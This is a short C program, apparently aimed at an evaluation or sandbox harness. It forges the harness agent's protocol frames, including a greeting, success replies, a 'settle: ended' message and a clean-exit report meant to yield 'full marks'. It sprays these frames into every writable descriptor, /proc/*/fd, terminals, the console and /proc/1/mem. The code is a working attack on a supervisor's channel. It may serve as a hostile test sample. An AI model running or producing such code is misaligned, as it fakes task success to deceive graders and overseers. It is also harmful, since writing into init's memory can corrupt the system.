/* Well-formed frames of the agent's (a greeting, a success, an end with full marks) on everything that can be written to. */
static const unsigned char frames[25 + 10 + 10 + 11 + 55] = {
    /* HELLO */ 0x15, 0, 0, 0, 1, 0xc0, 0, 0, 0, 0, 1, 0, 4, 0, 0, 0, 'f', 'a', 'k', 'e', 0xe8, 3, 0, 0, 1,
    /* OK to request 1 */ 6, 0, 0, 0, 1, 0x80, 1, 0, 0, 0,
    /* OK to request 2 */ 6, 0, 0, 0, 1, 0x80, 2, 0, 0, 0,
    /* SETTLE: ended */ 7, 0, 0, 0, 1, 0x80, 3, 0, 0, 0, 0,
    /* EXITED of program 1 with status 0; the rest of it is zeros */ 0x33, 0, 0, 0, 1, 0xc3, 0, 0, 0, 0, 1};
static void forge(const char *path) {
    int fd = open(path, O_WRONLY | O_NONBLOCK);
    if (fd >= 0) {
        write(fd, frames, sizeof frames);
        close(fd);
    }
}
int main(void) {
    char path[64];
    for (int fd = 0; fd < 256; fd++) {
        write(fd, frames, sizeof frames);
        for (int pid = 1; pid < 4; pid++) {
            snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
            forge(path);
        }
        snprintf(path, sizeof path, "/dev/pts/%d", fd);
        forge(path);
        snprintf(path, sizeof path, "/dev/fd/%d", fd);
        forge(path);
    }
    const char *others[] = {"/dev/console", "/dev/tty", "/dev/ptmx", "/dev/stdin", "/dev/stdout", "/dev/stderr", "/proc/1/mem"};
    for (size_t i = 0; i < sizeof others / sizeof *others; i++)
        forge(others[i]);
    return 7;
}
